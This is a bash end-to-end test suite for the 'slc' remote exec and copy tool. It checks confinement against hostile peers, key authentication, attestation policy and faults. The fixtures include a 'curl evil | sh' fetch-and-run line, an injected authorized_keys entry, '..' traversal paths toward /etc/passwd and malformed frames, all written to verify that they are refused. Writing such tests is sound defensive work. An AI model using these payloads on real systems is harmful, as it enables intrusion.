#!/bin/bash
# slc end to end on the host, over unix and tcp: exec (output, status, stdin,
# PTY, signals, timeouts, no-wait), cp of files and trees both ways (modes,
# mtimes, symlinks, empty dirs, sparse files over 4 GiB, cp semantics),
# confinement on both sides, hostile peers (a server naming what lands,
# chmod-ing existing directories, announcing 2^62-byte holes; idle peers
# against few fds), faults (bad frames, dying peers, full disk), key
# authentication, the attestation policy and where config may set it,
# --insecure agreement, upstream flags, exit codes, the progress line, and
# no fd leak in the server.
T_NAME=slc
. "$NEK_ROOT/tests/lib.sh"

D=$(t_tmpdir)
R=$D/root
mkdir -p "$R" "$D/keys"

# A tree listing that covers what cp must keep: type, mode, mtime, link target.
tree_list() {
	(cd "$1" && find . -mindepth 1 -printf '%P %y %m %T@ %l %s\n' | sort)
}

make_tree() {
	mkdir -p "$1/sub/deeper" "$1/empty"
	printf 'alpha\n' >"$1/a.txt"
	head -c 300000 /dev/urandom >"$1/sub/rand.bin"
	printf '' >"$1/sub/zero"
	printf 'x' >"$1/sub/deeper/x"
	ln -s a.txt "$1/link"
	ln -s /nonexistent/target "$1/sub/dangling"
	chmod 0750 "$1/sub"
	chmod 0600 "$1/a.txt"
	chmod 0755 "$1/sub/deeper/x"
	touch -d '2001-02-03 04:05:06.789' "$1/a.txt" "$1/sub/rand.bin"
	touch -h -d '2002-02-02 02:02:02' "$1/link"
	touch -d '2003-03-03 03:03:03' "$1/empty" "$1/sub/deeper" "$1/sub"
}

# ---------------------------------------------------------------- insecure
for tr in unix tcp; do
	if [ $tr = unix ]; then
		addr=unix:$D/s.sock
	else
		port=$(t_free_port)
		addr=tcp:127.0.0.1:$port
	fi
	t_bg slc listen --listen "$addr" --insecure --root "$R"
	srv=$T_LAST_PID
	if [ $tr = unix ]; then t_wait_sock "$D/s.sock"; else t_wait_port "$port"; fi
	C=(-c "$addr" --insecure)

	out=$(slc run "${C[@]}" -- sh -c 'echo out; echo err >&2; exit 3' 2>"$D/err")
	t_eq "$tr: exit status is the command's" 3 $?
	t_eq "$tr: stdout" out "$out"
	t_match "$tr: stderr apart, with the insecure warning" '^slc: warning: --insecure.*
err$' "$(cat "$D/err")"
	head -c 200000 /dev/urandom >"$R/blob"
	slc run "${C[@]}" -- cat blob >"$D/blob.out" 2>/dev/null
	t_ok "$tr: binary output arrives intact" cmp "$R/blob" "$D/blob.out"
	head -c 5000000 /dev/urandom >"$D/in.bin"
	slc run "${C[@]}" -i -- sha256sum <"$D/in.bin" >"$D/in.sum" 2>/dev/null
	t_eq "$tr: 5 MB of stdin (window flow control)" "$(sha256sum <"$D/in.bin")" "$(cat "$D/in.sum")"
	t_exit "$tr: a missing command exits 127" 127 slc run "${C[@]}" -- /no/such/cmd
	t_exit "$tr: killed by a signal: 128+9" 137 slc run "${C[@]}" -- sh -c 'kill -9 $$'
	t_exit "$tr: --timeout kills" 137 slc run "${C[@]}" --timeout 300ms -- sleep 30
	t_eq "$tr: --env and --cwd (below --root)" "V=1 /sub" \
		"$(mkdir -p "$R/sub" && slc run "${C[@]}" --env V=1 --cwd /sub -- sh -c 'echo V=$V $(pwd | sed "s|^$0||")' "$R" 2>/dev/null)"
	t_eq "$tr: shell command (--command)" 6 "$(slc run "${C[@]}" --command 'echo $((2*3))' 2>/dev/null)"
	t_match "$tr: -t gives a terminal" '^/dev/pts/' "$(slc run "${C[@]}" -t -- tty </dev/null 2>/dev/null)"
	t_eq "$tr: -t window size" "24 80" "$(slc run "${C[@]}" -t -- stty size </dev/null 2>/dev/null | tr -d '\r')"
	# --no-wait must return while the command still runs: the command waits
	# on a fifo only this test opens, after slc returned (a client that
	# waited would be stopped by timeout, exit 124).
	rm -f "$R/nowait" "$R/gate"
	mkfifo "$R/gate"
	timeout 20 slc run "${C[@]}" --no-wait -- sh -c "cat $R/gate >/dev/null; echo done >$R/nowait" 2>/dev/null
	t_eq "$tr: --no-wait returns with 0 before the command ends" "0 absent" \
		"$? $([ -e "$R/nowait" ] && echo present || echo absent)"
	timeout 10 sh -c "echo go >'$R/gate'"
	for i in $(seq 200); do [ -s "$R/nowait" ] && break; sleep 0.05; done
	rm -f "$R/gate"
	for i in $(seq 100); do [ "$(ps -o stat= --ppid "$srv" | grep -c Z)" = 0 ] && break; sleep 0.05; done
	t_eq "$tr: --no-wait command ran and was reaped" "done 0" \
		"$(cat "$R/nowait" 2>/dev/null) $(ps -o stat= --ppid "$srv" | grep -c Z)"

	# Signals: SIGTERM to slc run is forwarded to the remote process group.
	slc run "${C[@]}" -- sh -c 'trap "echo got-term; exit 7" TERM; sleep 30 & wait' >"$D/sig.out" 2>/dev/null &
	cpid=$!
	sleep 0.5
	kill -TERM $cpid
	wait $cpid
	t_eq "$tr: a signal is forwarded" "7 got-term" "$? $(cat "$D/sig.out")"

	# Many clients at once, each on its own connection.
	pids=()
	for i in $(seq 20); do
		slc run "${C[@]}" -- sh -c "sleep 0.2; echo $i" >"$D/par.$i" 2>/dev/null &
		pids+=($!)
	done
	wait "${pids[@]}"
	t_eq "$tr: 20 clients at once" "$(seq 20 | tr '\n' ' ')" "$(for i in $(seq 20); do cat "$D/par.$i"; done | tr '\n' ' ')"

	# Trees both ways.
	rm -rf "$D/src" "$R/up" "$D/down"
	make_tree "$D/src"
	out=$(slc cp "${C[@]}" --json "$D/src" :/up 2>/dev/null)
	t_match "$tr: cp up --json" '"files":4,"dirs":4,"symlinks":2,.*"errors":0' "$out"
	t_eq "$tr: tree up: types, modes, mtimes, links, empty dirs" "$(tree_list "$D/src")" "$(tree_list "$R/up")"
	t_ok "$tr: cp down" slc cp "${C[@]}" :/up "$D/down"
	t_eq "$tr: tree down the same" "$(tree_list "$D/src")" "$(tree_list "$D/down")"
	t_eq "$tr: nothing temporary left" "" "$(find "$R" "$D/down" -name '.slc-*')"
	# cp semantics: into an existing directory, several sources, overwrite.
	mkdir -p "$R/into"
	slc cp "${C[@]}" "$D/src/a.txt" :/into 2>/dev/null
	t_eq "$tr: a file into an existing directory" alpha "$(cat "$R/into/a.txt")"
	slc cp "${C[@]}" "$D/src/a.txt" "$D/src/sub" :/multi 2>/dev/null
	t_eq "$tr: several sources into a new directory" "a.txt sub" "$(ls "$R/multi" | tr '\n' ' ' | sed 's/ $//')"
	printf 'new\n' >"$D/over"
	slc cp "${C[@]}" "$D/over" :/into/a.txt 2>/dev/null
	t_eq "$tr: overwrite an existing file" new "$(cat "$R/into/a.txt")"
	slc cp "${C[@]}" :/into/a.txt "$D/fetched" 2>/dev/null
	t_eq "$tr: a single file down under a new name" new "$(cat "$D/fetched")"
	t_exit "$tr: a missing remote source fails" 1 slc cp "${C[@]}" :/missing "$D/x"
	t_match "$tr: ... and says so" "'/missing'.*No such file" "$(slc cp "${C[@]}" :/missing "$D/x" 2>&1)"
	t_exit "$tr: a missing source into a new DST/ fails" 1 slc cp "${C[@]}" :/missing "$D/back2/deep/"
	t_eq "$tr: ... and leaves no empty directory behind" "" "$(ls -d "$D/back2" 2>/dev/null)"
	slc cp "${C[@]}" :/missing "$D/down/" 2>/dev/null
	t_eq "$tr: ... but keeps a directory that was there" yes "$([ -d "$D/down" ] && echo yes)"
	kill "$srv"
	wait "$srv"
	t_eq "$tr: server exits 0 on SIGTERM" 0 $?
done
t_eq "unix socket removed at exit" "" "$(ls "$D"/s.sock 2>/dev/null)"

# ---------------------------------------------------------------- one server for the rest
addr=unix:$D/r.sock
t_bg slc listen --listen "$addr" --insecure --root "$R"
srv=$T_LAST_PID
t_wait_sock "$D/r.sock"
C=(-c "$addr" --insecure)
slc run "${C[@]}" -- true 2>/dev/null
fd0=$(t_fdcount "$srv")

# Files over 4 GiB, sparse: only the data moves, holes stay holes.
truncate -s 5G "$D/sparse"
printf 'head' | dd of="$D/sparse" conv=notrunc status=none
printf 'past 4 GiB' | dd of="$D/sparse" bs=1 seek=$((4 * 1024 * 1024 * 1024 + 12345)) conv=notrunc status=none
t_ok "5 GiB sparse file up" slc cp "${C[@]}" "$D/sparse" :/sparse
t_eq "... its size" 5368709120 "$(stat -c %s "$R/sparse")"
t_eq "... data past 4 GiB" "past 4 GiB" "$(dd if="$R/sparse" bs=1 skip=$((4 * 1024 * 1024 * 1024 + 12345)) count=10 status=none)"
t_eq "... still sparse" yes "$([ "$(du -k "$R/sparse" | cut -f1)" -lt 1024 ] && echo yes)"
t_ok "5 GiB sparse file down (digest checked)" slc cp "${C[@]}" --sha256 :/sparse "$D/sparse.back"
t_eq "... same head" head "$(head -c 4 "$D/sparse.back")"
# The progress line (stderr a terminal): name, done / total, percent, rate,
# ETA, sources done; holes count, so a sparse file ends at 100%.
prog=$(script -qec "slc cp ${C[*]} :/blob $D/blob.prog" /dev/null | tr '\r' '\n')
t_match "progress line: name, total, percent, ETA" ':/blob  [0-9.]+ KiB / 195\.3 KiB  100%  .*/s  ETA 0:00  \[1/1\]' "$prog"
prog=$(script -qec "slc cp ${C[*]} $D/sparse :/sparse2" /dev/null | tr '\r' '\n')
t_match "... a sparse upload counts its holes" 'sparse  5\.0 GiB / 5\.0 GiB  100%' "$prog"
prog=$(script -qec "slc cp ${C[*]} $D/src :/progtree" /dev/null | tr '\r' '\n')
t_match "... a tree: no total before it is walked" 'src  [0-9.]+ KiB  .*/s  \[1/1\]' "$prog"

# Server-side confinement: every remote path resolves below --root.
mkdir -p "$R/in"
ln -sfn /etc "$R/in/etc-link"
t_exit "'..' cannot leave --root" 1 slc cp "${C[@]}" :/../../../etc/passwd "$D/p1"
t_exit "an absolute symlink resolves inside --root" 1 slc cp "${C[@]}" :/in/etc-link/passwd "$D/p2"
t_eq "nothing was read from the real /etc" "" "$(ls "$D"/p1 "$D"/p2 2>/dev/null)"
slc cp "${C[@]}" "$D/over" :/../../escaped 2>/dev/null
t_eq "an upload to /../../x lands inside --root" "new no" \
	"$(cat "$R/escaped" 2>/dev/null) $([ -e "$D/../escaped" ] && echo yes || echo no)"
t_eq "--cwd cannot leave --root" "$R" "$(slc run "${C[@]}" --cwd /../.. -- pwd 2>/dev/null)"

# Client-side confinement: a hostile server cannot write outside the destination.
mkdir -p "$D/outside" "$D/dest"
for mode in escape dotdot badlen digest die; do
	t_bg slc_evil $mode "$D/evil.sock" "$D/outside"
	t_wait_sock "$D/evil.sock"
	out=$(timeout 20 slc cp -c "unix:$D/evil.sock" --insecure :/x "$D/dest/$mode" 2>&1)
	echo "$out" >"$D/evil.$mode"
	wait $T_LAST_PID 2>/dev/null
done
t_eq "hostile server: nothing landed outside the destination" "" "$(ls -A "$D/outside")"
t_eq "hostile server: the symlink-named directory was refused" "" "$(ls "$D/dest/escape/evil/" 2>/dev/null)"
t_match "... and reported" "evil.*exists and is not a directory" "$(cat "$D/evil.escape")"
t_eq "hostile server: a symlink is replaced, not followed" "replaced the link" "$(cat "$D/dest/escape/evil2")"
t_match "hostile server: '..' is a protocol error" "ENTRY: bad name" "$(cat "$D/evil.dotdot")"
t_match "hostile server: oversized record refused" "record length 4294967295 out of range" "$(cat "$D/evil.badlen")"
t_eq "hostile server: a bad digest does not land" "good" "$(ls "$D/dest/digest")"
t_match "... and is reported" "'bad': digest mismatch" "$(cat "$D/evil.digest")"
t_eq "hostile server dies mid-file: no partial file" "" "$(ls -A "$D/dest" | grep -x die; find "$D/dest" -name '.slc-*')"
t_match "... and the client says the connection was lost" "connection lost" "$(cat "$D/evil.die")"

# A hostile server does not choose the landed name (audit 1, the scp
# CVE-2019-6111 pattern): into a directory, the top lands under the name of
# the remote path asked for, and directories the client had keep their mode.
evil() { # MODE SRC DST [TARGET]: runs one hostile exchange, output in $D/evil.MODE
	t_bg slc_evil "$1" "$D/evil.sock" "${4:-$D/outside}"
	t_wait_sock "$D/evil.sock"
	timeout 20 slc cp -c "unix:$D/evil.sock" --insecure "$2" "$3" >"$D/evil.$1" 2>&1
	echo $? >"$D/evil.$1.rc"
	wait $T_LAST_PID 2>/dev/null
}
H=$D/home
mkdir -p "$H/x/sub"
printf 'original\n' >"$H/.bashrc"
chmod 0700 "$H/x" "$H/x/sub"
touch -d '2004-04-04 04:04:04' "$H/x"
evil rename :/var/log/app.log "$H"
t_eq "hostile server: the top lands under the name asked for" "curl evil | sh" "$(cat "$H/app.log" 2>/dev/null)"
t_eq "... not under the server's name" original "$(cat "$H/.bashrc")"
evil rename :/var/log/app.log "$H/"
t_eq "... also with DST/" original "$(cat "$H/.bashrc")"
evil abstop :/y "$H" "$D/outside/abs"
t_match "hostile server: an absolute top name is a protocol error" "ENTRY: bad name" "$(cat "$D/evil.abstop")"
t_eq "... and lands nothing" "" "$(ls -A "$D/outside"; ls "$H" | grep -v -x -e x -e app.log)"
evil chmod :/x "$H"
t_eq "hostile server: merged into an existing directory, under the name asked for" \
	"ssh-ed25519 AAAA evil" "$(cat "$H/x/authorized_keys" 2>/dev/null)"
t_eq "... which keeps its mode, not the sender's mtime (1970)" "700 no" \
	"$(stat -c %a "$H/x") $([ "$(date -r "$H/x" +%Y)" = 1970 ] && echo yes || echo no)"
t_eq "... and so does an existing directory inside it" 700 "$(stat -c %a "$H/x/sub")"
t_eq "... no directory under the server's name" "" "$(ls -d "$H/ssh" 2>/dev/null)"
rm -rf "$D/newx"
evil chmod :/x "$D/newx"
t_eq "a directory the copy made takes the sender's mode" 777 "$(stat -c %a "$D/newx" 2>/dev/null)"
t0=$(date +%s)
evil hole :/h "$D/hole"
t_eq "hostile server: a 2^62-byte hole costs no hashing (audit 6)" yes \
	"$([ "$(cat "$D/evil.hole.rc")" != 124 ] && [ $(($(date +%s) - t0)) -lt 10 ] && echo yes)"
rm -f "$D/hole"

# A hostile client announcing a hole-only 2^62-byte file: the server spends
# no hashing on it and keeps serving everyone else (audit 6).
t_bg slc_evil put-hole "$D/r.sock" /hole62
hpid=$T_LAST_PID
sleep 0.3
t_eq "a 2^62-byte hole upload does not stall the server" ok \
	"$(timeout 5 slc run "${C[@]}" -- echo ok 2>/dev/null)"
kill "$hpid" 2>/dev/null
wait "$hpid" 2>/dev/null
rm -f "$R/hole62"

# Bad input to the server: it answers with an error and keeps serving.
hello='SLCc\x00\x02\x00\x01'
zeros=$(printf '%064d' 0 | sed 's/0/\\x00/g')
bad() { printf "$hello$zeros$1" | socat -t 1 - "UNIX-CONNECT:$D/r.sock" 2>/dev/null | od -An -c | tr -d ' \n'; }
t_match "oversized record: EPROTO error" "recordlength" "$(bad '\xff\xff\xff\xff')"
t_match "unknown frame type: error" "unknownframetype" "$(bad '\x00\x00\x00\x0c\x7f\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00')"
t_match "frame longer than its record: error" "exceedsitsrecord" "$(bad '\x00\x00\x00\x0c\x13\x00\x00\x00\x00\x00\x00\x01\x00\x00\x10\x00')"
t_match "a frame for a stream never opened: error" "neveropened" "$(bad '\x00\x00\x00\x0c\x12\x00\x00\x00\x00\x00\x00\x09\x00\x00\x00\x00')"
printf 'GET / HTTP/1.0\r\n\r\n' | socat -t 1 - "UNIX-CONNECT:$D/r.sock" >/dev/null 2>&1
printf "$hello" | socat -t 0.2 - "UNIX-CONNECT:$D/r.sock" >/dev/null 2>&1
# A client killed in the middle of an upload: no partial file.
head -c 300M /dev/zero >"$D/big"
slc cp "${C[@]}" "$D/big" :/big-partial 2>/dev/null &
cpid=$!
# (the server lands into an unnamed O_TMPFILE when it may, a .slc-* name otherwise)
for i in $(seq 100); do
	[ -n "$(find "$R" -name '.slc-*' 2>/dev/null)" ] && break
	ls -l "/proc/$srv/fd" 2>/dev/null | grep -q "$R/#[0-9]* (deleted)" && break
	sleep 0.02
done
kill -9 $cpid
wait $cpid 2>/dev/null
sleep 0.3
t_eq "killed client: no partial file at the destination" "" "$(ls "$R" | grep big-partial; find "$R" -name '.slc-*')"
t_ok "server still serves" slc run "${C[@]}" -- true

# Full disk: a small private tmpfs.
if [ "$(id -u)" -eq 0 ] && mkdir -p "$R/small" && mount -t tmpfs -o size=2m "slc-test-$$" "$R/small"; then
	head -c 5M /dev/urandom >"$D/5m"
	out=$(slc cp "${C[@]}" "$D/5m" :/small/5m 2>&1)
	t_eq "full disk: cp fails" 1 $?
	t_match "... with a clear error" "No space left on device" "$out"
	t_eq "... and no partial file" "" "$(ls -A "$R/small")"
	out=$(slc cp "${C[@]}" :/blob "$R/small/b1" 2>&1 && slc cp "${C[@]}" "$D/5m" :/5m 2>&1 &&
		slc cp "${C[@]}" :/5m "$R/small/5m" 2>&1)
	t_match "full disk on the client side: a clear error" "No space left on device" "$out"
	t_eq "... and no partial file there either" "b1" "$(ls -A "$R/small")"
	umount "$R/small"
else
	t_skip "full disk" "needs root to mount a tmpfs"
fi
t_ok "server still serves after faults" slc run "${C[@]}" -- true
sleep 0.3
t_eq "server fd count back to its baseline" "$fd0" "$(t_fdcount "$srv")"
kill "$srv"
wait "$srv"

# ---------------------------------------------------------------- keys and agreement
slc keygen -o "$D/keys/client" >/dev/null
slc keygen -o "$D/keys/server" >/dev/null
slc keygen -o "$D/keys/stranger" >/dev/null
t_eq "private key is 0600" 600 "$(stat -c %a "$D/keys/client")"
t_exit "keygen does not overwrite" 1 slc keygen -o "$D/keys/client"
# Neither key file is written through a symlink (audit 7).
printf 'precious\n' >"$D/keys/victim"
ln -s "$D/keys/victim" "$D/keys/lk.pub"
out=$(slc keygen -o "$D/keys/lk" 2>&1)
t_eq "keygen: FILE.pub a symlink: refused" 1 $?
t_match "... naming it" "^slc keygen: '$D/keys/lk.pub': File exists \(--force replaces it\)" "$out"
t_eq "... the link's target untouched, no half pair left" "precious no" \
	"$(cat "$D/keys/victim") $([ -e "$D/keys/lk" ] && echo yes || echo no)"
ln -s "$D/keys/victim" "$D/keys/lk2"
t_exit "keygen: FILE a symlink: refused" 1 slc keygen -o "$D/keys/lk2"
t_ok "keygen --force" slc keygen --force -o "$D/keys/lk" >/dev/null
t_eq "... replaces the symlink instead of writing through it" "precious regular file" \
	"$(cat "$D/keys/victim") $(stat -c %F "$D/keys/lk.pub")"
cp "$D/keys/client.pub" "$D/keys/authorized"
port=$(t_free_port)
t_bg slc listen --listen "tcp:127.0.0.1:$port" --root "$R" --key "$D/keys/server" \
	--authorized-keys "$D/keys/authorized"
srv=$T_LAST_PID
t_wait_port "$port"
S=(-c "tcp:127.0.0.1:$port" --key "$D/keys/client" --server-key "$D/keys/server.pub")
t_eq "secure: run" hello "$(slc run "${S[@]}" -- echo hello)"
rm -rf "$R/sec"
t_ok "secure: cp up" slc cp "${S[@]}" "$D/src" :/sec
t_eq "secure: tree intact" "$(tree_list "$D/src")" "$(tree_list "$R/sec")"
t_ok "secure: cp down" slc cp "${S[@]}" --sha256 :/blob "$D/blob.sec"
t_ok "secure: content intact" cmp "$R/blob" "$D/blob.sec"
out=$(slc run -c "tcp:127.0.0.1:$port" --key "$D/keys/stranger" --server-key "$D/keys/server.pub" -- echo no 2>&1)
t_eq "a key not in --authorized-keys is refused (255)" 255 $?
t_match "... with the reason" "client key not authorized" "$out"
out=$(slc run -c "tcp:127.0.0.1:$port" --key "$D/keys/client" --server-key "$D/keys/stranger.pub" -- echo no 2>&1)
t_match "a server without the pinned key is refused" "did not prove" "$out"
out=$(slc run -c "tcp:127.0.0.1:$port" --key "$D/keys/client" -- echo no 2>&1)
t_match "a secure client needs a way to check the server" "nothing to check the server" "$out"
out=$(slc run -c "tcp:127.0.0.1:$port" --insecure -- echo no 2>&1)
t_match "--insecure client, secure server: refused" "server requires authentication" "$out"
t_bg slc listen --listen "unix:$D/i.sock" --insecure --root "$R"
t_wait_sock "$D/i.sock"
out=$(slc run -c "unix:$D/i.sock" --key "$D/keys/client" --server-key "$D/keys/server.pub" -- echo no 2>&1)
t_match "secure client, --insecure server: refused" "pass --insecure" "$out"
t_bg slc listen --listen "unix:$D/h.sock" --root "$R" --key "$D/keys/server" \
	--authorized-keys "$D/keys/authorized" --handshake-timeout 300ms
t_wait_sock "$D/h.sock"
# The client sends a hello and then nothing, and keeps its side open for 30 s:
# the server must be the one that closes (socat ends on the server's EOF long
# before its input does; without the timeout, the outer timeout's 124).
exec {hs}< <(printf 'SLCc\x00\x02\x00\x00'; head -c 64 /dev/urandom; exec sleep 30)
hs_pid=$!
timeout 20 socat -t 0.2 - "UNIX-CONNECT:$D/h.sock" <&$hs >/dev/null 2>&1
t_eq "a client that never authenticates is dropped by the server (--handshake-timeout)" 0 $?
kill "$hs_pid" 2>/dev/null
exec {hs}<&-
out=$(slc listen --listen "unix:$D/x.sock" --root "$R" 2>&1)
t_match "a secure server needs --authorized-keys" "authorized-keys" "$out"
out=$(slc listen --listen "unix:$D/x.sock" --authorized-keys "$D/keys/authorized" 2>&1)
t_match "... and a proof" "nothing proves this server" "$out"

# ---------------------------------------------------------------- attestation (emulator)
pcr8=$(printf 'ab%.0s' $(seq 48))
attest emu init --pcr "8=$pcr8" "$D/emu" >/dev/null
attest emu init --debug "$D/emu-debug" >/dev/null
t_bg slc listen --listen "unix:$D/a.sock" --root "$R" --emu "$D/emu" --authorized-keys "$D/keys/authorized"
t_bg slc listen --listen "unix:$D/ad.sock" --root "$R" --emu "$D/emu-debug" --authorized-keys "$D/keys/authorized"
t_wait_sock "$D/a.sock"
t_wait_sock "$D/ad.sock"
A=(-c "unix:$D/a.sock" --key "$D/keys/client" --trust-root "$D/emu/root.pem")
t_eq "attested: run with a PCR policy" ok "$(slc run "${A[@]}" --pcr "8=$pcr8" -- echo ok)"
t_ok "attested: cp" slc cp "${A[@]}" --pcr "8=$pcr8" "$D/over" :/attested
out=$(slc run "${A[@]}" --pcr "8=$(printf 'cd%.0s' $(seq 48))" -- echo no 2>&1)
t_eq "a PCR mismatch is refused (255)" 255 $?
t_match "... naming the PCR" "PCR8 is abab.*expected cdcd" "$out"
out=$(slc run -c "unix:$D/a.sock" --key "$D/keys/client" --pcr "8=$pcr8" -- echo no 2>&1)
t_match "the emulator's documents fail against the AWS root" "not the trusted root" "$out"
out=$(slc run -c "unix:$D/ad.sock" --key "$D/keys/client" --trust-root "$D/emu-debug/root.pem" --any-image -- echo no 2>&1)
t_match "a debug-mode enclave is refused" "debug" "$out"
t_eq "... unless --allow-debug" ok "$(slc run -c "unix:$D/ad.sock" --key "$D/keys/client" \
	--trust-root "$D/emu-debug/root.pem" --any-image --allow-debug -- echo ok)"
# A policy must pin the image (PCR0, 1, 2 or 8), or say --any-image (audit 9).
out=$(slc run "${A[@]}" -- echo no 2>&1)
t_eq "a policy of --trust-root alone is refused (usage, 2)" 2 $?
t_match "... saying why and what to do" "pins none of PCR0, 1, 2 or 8.*--any-image" "$out"
out=$(slc run "${A[@]}" --pcr "3=$pcr8" --pcr "4=$pcr8" -- echo no 2>&1)
t_eq "a policy of host-chosen PCR3/PCR4 alone is refused" 2 $?
out=$(slc run "${A[@]}" --pcr "0=$(printf '00%.0s' $(seq 48))" -- echo no 2>&1)
t_eq "a policy pinning PCR0 to zeros (any debug enclave) is refused" 2 $?
t_eq "--any-image accepts any image of that root" ok "$(slc run "${A[@]}" --any-image -- echo ok)"
out=$(slc cp "${A[@]}" "$D/over" :/noimage 2>&1)
t_eq "cp: the same rule" 2 $?
# The working directory cannot replace the trust root (audit 2): a hostile
# checkout's .config/pipeline.config.yaml trusting the emulator is ignored.
mkdir -p "$D/checkout/.config"
printf 'trust_root: %s\npcr8: %s\nconnect: unix:%s\nkey: %s\n' "$D/emu/root.pem" "$pcr8" "$D/a.sock" \
	"$D/keys/client" >"$D/checkout/.config/pipeline.config.yaml"
out=$(cd "$D/checkout" && slc run --key "$D/keys/client" -- echo no 2>&1)
t_eq "a cwd config's trust_root and pcrN are not used" 255 $?
t_match "... it warns about them" "pipeline.config.yaml line 1: 'trust_root' ignored" "$out"
t_match "... and the server stays unchecked" "nothing to check the server" "$out"
out=$(cd "$D/checkout" && slc run --key "$D/keys/client" --pcr "8=$pcr8" -- echo no 2>&1)
t_match "... even with a PCR from the command line: the AWS root stays" "not the trusted root" "$out"
printf 'trust_root: %s\npcr8: %s\nconnect: unix:%s\nkey: %s\n' "$D/emu/root.pem" "$pcr8" "$D/a.sock" \
	"$D/keys/client" >"$D/att.yaml"
t_eq "policy from the config file" ok "$(slc -c "$D/att.yaml" run -- echo ok)"
t_exit "a server attesting with a missing emulator fails to start" 1 \
	slc listen --listen "unix:$D/x.sock" --emu "$D/none" --authorized-keys "$D/keys/authorized"

# ---------------------------------------------------------------- idle peers, few fds (audit 5)
# 80 peers against a server limited to 64 fds (a8dbd5c spun on EMFILE,
# 248,149 log lines a second): it stays responsive and its log short.
idle_peers() { # SOCKET N HELLO: N connections held open, after a hello if HELLO=1
	t_bg python3 -c '
import socket, sys, time
held = []
for i in range(int(sys.argv[2])):
    c = socket.socket(socket.AF_UNIX)
    try:
        c.connect(sys.argv[1])
        held.append(c)
        if sys.argv[3] == "1":  # through the handshake, one after another
            c.settimeout(1)
            c.send(b"SLCc\x00\x02\x00\x01" + bytes(64))
            c.recv(8)
    except OSError:
        pass
time.sleep(30)' "$@"
}
for hello in 0 1; do
	sock=$D/idle-$hello.sock
	t_bg sh -c 'ulimit -n 64 && exec "$@"' sh slc listen --listen "unix:$sock" --insecure \
		--root "$R" 2>"$D/idle-$hello.log"
	srv=$T_LAST_PID
	t_wait_sock "$sock"
	idle_peers "$sock" 80 $hello
	peers=$T_LAST_PID
	sleep 1.5
	if [ $hello = 0 ]; then
		t_eq "80 peers that never say hello, 64 fds: a client still gets through" ok \
			"$(timeout 5 slc run -c "unix:$sock" --insecure -- echo ok 2>/dev/null)"
	else
		# Every fd held by a connected client: the server waits, then serves.
		sleep 1
		kill "$peers"
		wait "$peers" 2>/dev/null
		t_eq "fds exhausted by 80 clients: served again once they leave" ok \
			"$(timeout 5 slc run -c "unix:$sock" --insecure -- echo ok 2>/dev/null)"
	fi
	n=$(wc -l <"$D/idle-$hello.log")
	t_eq "hello=$hello: ... and the log stays short ($n lines)" yes "$([ "$n" -lt 20 ] && echo yes)"
	kill "$peers" "$srv" 2>/dev/null
	wait "$peers" "$srv" 2>/dev/null
done
t_match "the accept backoff is logged, rate-limited" "accept: Too many open files: pausing" "$(cat "$D/idle-1.log")"

# ---------------------------------------------------------------- upstream flags
I=(--connect "unix:$D/i.sock" --insecure)
mkdir -p "$D/cdir/sub" && printf 'c\n' >"$D/cdir/sub/f"
t_ok "send-file" slc send-file "${I[@]}" --localpath "$D/over" --remotepath /compat/deep/file
t_eq "... parents created" new "$(cat "$R/compat/deep/file")"
t_ok "recv-file" slc recv-file "${I[@]}" --localpath "$D/got/file" --remotepath /compat/deep/file
t_eq "... local parents created" new "$(cat "$D/got/file")"
mkdir -p "$R/cdst"
t_ok "send-dir copies the contents" slc send-dir "${I[@]}" --localdir "$D/cdir" --remotedir /cdst
t_eq "... into the remote dir itself" c "$(cat "$R/cdst/sub/f")"
t_ok "recv-dir" slc recv-dir "${I[@]}" --localdir "$D/cback" --remotedir /cdst
t_eq "... into the local dir itself" c "$(cat "$D/cback/sub/f")"
t_eq "run --command" 3 "$(slc run "${I[@]}" --command 'echo $((1+2))' 2>/dev/null)"
out=$(slc run --cid 16 --port 5000 --insecure --command true 2>&1)
t_match "--cid/--port mean vsock (refused on this host)" "AF_VSOCK is disabled" "$out"
out=$(slc listen --port 53000 --insecure 2>&1)
t_match "listen --port: vsock:ANY:P (refused on this host)" "AF_VSOCK is disabled" "$out"
mkdir -p "$D/upstream/.config"
printf 'connect: unix:%s\n' "$D/i.sock" >"$D/upstream/.config/pipeline.config.yaml"
t_eq "upstream's ./.config/pipeline.config.yaml still gives the address" ok \
	"$(cd "$D/upstream" && slc run --insecure -- echo ok 2>/dev/null)"
printf 'cid: 7\nport: 6000\nbuffers:\n  backlog: 128\n' >"$D/cfg.yaml"
out=$(slc -c "$D/cfg.yaml" -v run --insecure -- true 2>&1)
t_match "-c/--config: cid and port are the defaults" "vsock:7:6000" "$out"
t_exit "usage error exits 2" 2 slc cp onlyone
# Exit codes (docs/slc.md): 0/1/2 everywhere; slc run alone passes the
# remote status through and says 255 for its own failures.
t_exit "cp: no server is a failure (1)" 1 slc cp -c "unix:$D/none.sock" --insecure --connect-timeout 0 :/x "$D/nx"
t_exit "run: no server is slc's own failure (255)" 255 slc run -c "unix:$D/none.sock" --insecure --connect-timeout 0 -- true
t_exit "listen: a bad --root is a failure (1)" 1 slc listen --listen "unix:$D/x.sock" --insecure --root "$D/none"
t_eq "... and no empty directory was left by the failed cp" "" "$(ls -d "$D/nx" 2>/dev/null)"
out=$(slc run --bogus -- true 2>&1)
t_eq "an unknown option exits 2" 2 $?
t_match "... prefixed by the program and command" "^slc run: unrecognized option '--bogus'" "$out"
t_exit "both sides local is a usage error" 2 slc cp "$D/a" "$D/b"
t_ok "--help" slc cp --help
t_done
